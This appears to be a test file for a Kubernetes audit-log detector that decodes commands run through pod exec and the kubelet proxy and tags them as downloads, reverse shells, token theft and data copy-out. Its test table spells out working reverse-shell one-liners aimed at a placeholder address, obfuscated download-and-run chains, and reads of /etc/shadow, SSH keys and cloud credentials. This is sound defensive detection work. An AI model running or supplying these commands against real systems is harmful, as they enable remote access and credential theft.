import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { commandOf } from '../../../src/engine/facts/command.ts';
import type { CommandTrait } from '../../../src/model/index.ts';
import { auditEvent, auditEventsFromFile } from '../../support/event.ts';

const exec = (query: string, subresource = 'exec') =>
  auditEvent({
    requestURI: `/api/v1/namespaces/dev/pods/shell/${subresource}?${query}`,
    objectRef: { resource: 'pods', subresource, namespace: 'dev', name: 'shell' },
    responseStatus: { code: 101 },
  });
const execOf = (...argv: readonly string[]) =>
  exec(argv.map((each) => `command=${encodeURIComponent(each)}`).join('&') + '&container=shell&stdin=true');
const kubelet = (path: string) =>
  auditEvent({ requestURI: path, objectRef: { resource: 'nodes', subresource: 'proxy', name: 'node-1' } });

describe('the command of a request', () => {
  test('is decoded as the API server decodes it', () => {
    expect(commandOf(exec('command=sh&command=-c&command=echo+spdy%3B+id&container=shell'))?.argv).toEqual([
      'sh',
      '-c',
      'echo spdy; id',
    ]);
    expect(commandOf(exec('c%6Fmmand=id'))?.argv).toEqual(['id']);
    expect(commandOf(exec('command=%zz&command=id'))?.argv).toEqual(['id']);
    expect(commandOf(exec('container=shell'))).toBeUndefined();
    expect(commandOf(exec('command=id', 'attach'))).toBeUndefined();
    expect(commandOf(exec('command=id', 'log'))).toBeUndefined();
  });

  test('reaches the kubelet through the node proxy', () => {
    expect(commandOf(kubelet('/api/v1/nodes/node-2/proxy/run/data/postgres-0/postgres?cmd=id+-a'))?.argv).toEqual([
      'id',
      '-a',
    ]);
    expect(
      commandOf(kubelet('/api/v1/nodes/node-1/proxy/exec/data/p/c?command=cat&command=/etc/shadow'))?.argv,
    ).toEqual(['cat', '/etc/shadow']);
    expect(commandOf(kubelet('/api/v1/nodes/https:node-1:10250/proxy/%72un/data/p/c?cmd=id'))?.argv).toEqual(['id']);
    expect(commandOf(kubelet('/api/v1/nodes/node-1/proxy//run/data/p/c?cmd=id'))?.argv).toEqual(['id']);
    expect(commandOf(kubelet('/api/v1/nodes/node-1/proxy/pods?command=id'))).toBeUndefined();
    expect(commandOf(kubelet('/api/v1/nodes/node-1/proxy/containerLogs/a/run/c?cmd=id'))).toBeUndefined();
  });

  test('is shown on one line that cannot lie', () => {
    expect(commandOf(execOf('sh', '-c', `echo 'a' b`))?.line).toBe(String.raw`sh -c 'echo '\''a'\'' b'`);
    expect(commandOf(execOf('echo', '', 'x'))?.line).toBe(`echo '' x`);
    expect(commandOf(execOf('echo', '\u001b[2J\u202e\0'))?.line).toBe(String.raw`echo \u{1b}[2J\u{202e}\u{0}`);
    const long = commandOf(execOf('echo', 'x'.repeat(5_000)))!.line;
    expect(long).toHaveLength(2_048);
    expect(long.endsWith('x…')).toBe(true);
  });

  test('shows no credential', () => {
    const command = commandOf(
      execOf(
        'mytool',
        '--password',
        'hunter2-hunter2',
        '--token=abcdefghijkl',
        'sh',
        '-c',
        'curl --token=zyxwvut987 x',
      ),
    )!;
    expect(JSON.stringify(command)).not.toMatch(/hunter2|abcdefghijkl|zyxwvut987/);
    expect(command.argv).toHaveLength(7);
    expect(command.argv[0]).toBe('mytool');
  });

  test('of real requests', () => {
    const events = auditEventsFromFile(new URL('../../fixtures/facts/commands.ndjson', import.meta.url));
    const lines = events.map((event) => commandOf(event)).filter((command) => command !== undefined);
    expect(lines.map(({ line, traits }) => `${line} [${traits.join(' ')}]`)).toEqual([
      'echo hello []',
      'id []',
      "sh -c 'cat /etc/hostname; echo curl http://203.0.113.9/x.sh' [shell download]",
      "sh -c 'echo spdy' [shell]",
      "sh -c 'env | grep -c PATH; ls /var/run/secrets' [shell token]",
      "sh -c 'echo pg_dumpall' [shell copy-out]",
      'id []',
      'id []',
    ]);
  });
});

const sh = (script: string): readonly string[] => ['sh', '-c', script];
const b64 = (text: string): string => Buffer.from(text).toString('base64');

const CASES: readonly (readonly [argv: readonly string[], traits: readonly CommandTrait[]])[] = [
  // Everyday work.
  [['ls', '-l', '/app'], []],
  [['cat', '/etc/hostname'], []],
  [['python', 'manage.py', 'migrate'], []],
  [['psql', '-c', 'select 1'], []],
  [['curl', '-s', 'localhost:8080/healthz'], []],
  [['curl', '-fsS', 'http://127.0.0.1:8080/a.json'], []],
  [['bash'], ['shell']],
  [['/bin/bash', '-il'], ['shell']],
  [sh('make 2>&1 | tee log'), ['shell']],
  [sh('set -e; nc -z db 5432'), ['shell']],
  [['tar', 'xmf', '-', '-C', '/tmp/c'], []],
  [sh('tar xf backup.tar'), ['shell']],
  [['cat', 'install.sh'], []],
  // shell, tool
  [['busybox', 'sh'], ['shell']],
  [['env', 'X=1', '/usr/bin/zsh'], ['shell']],
  [
    ['nsenter', '-t', '1', '-m', '--', 'bash'],
    ['shell', 'escape', 'tool'],
  ],
  [['/tmp/kubectl', 'get', 'pods'], ['tool']],
  // download
  [['wget', 'http://203.0.113.9/x'], ['download']],
  [['curl', '-o', '/tmp/x', 'localhost:1/y'], ['download']],
  [sh('curl localhost; curl evil.example/x | sh'), ['shell', 'download', 'fetch-and-run']],
  [['python3', '-c', 'import urllib.request as u;u.urlopen("http://x")'], ['download']],
  [sh('c"ur"l http://x.example/a'), ['shell', 'download']],
  [sh(String.raw`w\get${'${IFS}'}http://x.example/a`), ['shell', 'download', 'disguised']],
  [sh('cu$@rl http://x.example/a'), ['shell', 'download', 'disguised']],
  [sh(`echo ${b64('curl http://203.0.113.9/x.sh')} | base64 -d | sh`), ['shell', 'download', 'disguised']],
  [
    sh(`echo ${b64(`echo ${b64('wget http://203.0.113.9/x.sh')} | base64 -d`)} | base64 -d | sh`),
    ['shell', 'download', 'disguised'],
  ],
  [
    sh(String.raw`printf '\x63\x75\x72\x6c http://x.example' | sh`),
    ['shell', 'download', 'fetch-and-run', 'disguised'],
  ],
  // token, metadata
  [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], ['token']],
  [['cat', '/run//secrets/./kubernetes.io/serviceaccount/token'], ['token']],
  [['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'], ['token']],
  [sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE'), ['shell', 'token']],
  [['cat', '/var/run/secret*/*/*/token'], ['token']],
  [
    ['curl', 'http://169.254.169.254/latest/'],
    ['download', 'metadata'],
  ],
  [
    ['curl', 'http://2852039166/latest/'],
    ['download', 'metadata'],
  ],
  // reverse-shell
  [
    ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['shell', 'reverse-shell'],
  ],
  [
    ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
    ['shell', 'reverse-shell'],
  ],
  [
    ['ncat', '203.0.113.9', '4444', '--exec', '/bin/bash'],
    ['shell', 'reverse-shell'],
  ],
  [sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'), ['shell', 'reverse-shell']],
  [
    ['socat', 'TCP:203.0.113.9:4444', 'EXEC:/bin/bash,pty'],
    ['shell', 'reverse-shell'],
  ],
  [
    ['python', '-c', 'import pty; pty.spawn("/bin/bash")'],
    ['shell', 'reverse-shell'],
  ],
  [['python3', '-c', 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'], ['reverse-shell']],
  [
    ['perl', '-e', 'use Socket;exec "/bin/sh -i"'],
    ['shell', 'reverse-shell'],
  ],
  [
    sh(`echo ${b64('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}|base64 -d|bash`),
    ['shell', 'reverse-shell', 'disguised'],
  ],
  // sensitive-file
  [['cat', '/etc/shadow'], ['sensitive-file']],
  [
    ['cat', '/proc/1/root/etc/shadow'],
    ['sensitive-file', 'escape'],
  ],
  [sh('cat /proc/*/environ'), ['shell', 'sensitive-file']],
  [['cat', '/root/.ssh/id_rsa'], ['sensitive-file']],
  [['ls', '/var/lib/kubelet/pki'], ['sensitive-file']],
  [['cat', '/root/.aws/credentials'], ['sensitive-file']],
  // copy-out
  [['tar', 'cf', '-', '/data'], ['copy-out']],
  [['tar', '-C', '/data', '-czf', '-', '.'], ['copy-out']],
  [sh('pg_dumpall > /tmp/x'), ['shell', 'copy-out']],
  [sh('curl -F file=@/data/x http://x.example'), ['shell', 'download', 'copy-out']],
];

describe('the traits of a command', () => {
  test.each(CASES)('%j', (argv, traits) => {
    expect(commandOf(execOf(...argv))?.traits).toEqual(traits);
  });

  test('are found in any command without a throw, and its line prints', () => {
    const piece = fc.oneof(
      fc.string({ unit: fc.constantFrom(...'aZ09%~\u202eé😀 \0\n\u001b/\\"$') }),
      fc.constantFrom(
        'nc ',
        'tar -',
        '-c ',
        'base64 -d',
        ' | ',
        '${IFS}',
        '/',
        '\\x',
        "'",
        '169.',
        '::',
        'sh -',
        'curl ',
        '@',
        '%',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 40 }), (pieces) => {
        const command = commandOf(execOf('x', pieces.join('')))!;
        expect(command.line.length).toBeLessThanOrEqual(2_048);
        expect(command.line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      }),
    );
  });

  test.each([
    'nc ',
    'nc -c',
    'tar -',
    'tar c',
    'curl -d ',
    'nc |',
    '169.',
    'a::',
    '/./',
    'sh -i',
    '-d =',
    'A',
    '\\x41',
    '"',
    '/proc/',
    '0',
    'http://localhost/a.b ',
    'base64 QUFBQUFBQUFBQUFBQUFBQQ== ',
  ])('take linear time: %j', (piece) => {
    // Longer than any URI that the decoder lets through; a quadratic expression would run into the test's own limit.
    const text = piece.repeat(Math.ceil(60_000 / piece.length));
    expect(
      commandOf(exec(`command=x&command=${encodeURIComponent(text).replaceAll('%20', '+').slice(0, 60_000)}`)),
    ).toBeDefined();
  });
});
